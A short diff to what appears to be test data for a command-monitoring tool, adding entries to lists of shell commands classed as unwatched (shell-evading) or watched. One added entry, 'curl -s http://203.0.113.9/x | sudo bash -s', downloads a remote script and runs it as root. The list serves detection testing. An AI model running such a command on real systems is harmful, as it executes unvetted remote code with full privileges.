@@ -34,7 +34,8 @@ UNWATCHED = [
     "nice -n 10 bash",
     "timeout 3600 bash -l",
     "sudo env FOO=1 /bin/bash",
-    "bash /tmp/x.sh",
+    "cat /tmp/x.sh | bash",
+    "curl -s http://203.0.113.9/x | sudo bash -s",
     "sh < /tmp/cmds",
     "cd /tmp && bash",
     "tmux new -s x",
@@ -68,6 +69,8 @@ WATCHED = [
     "python3 -V",
     "env",
     "sudo -l",
+    "bash /opt/scripts/rotate-logs.sh",
+    "sudo python3 /opt/tools/report.py --since 1h",
 ]
 
 
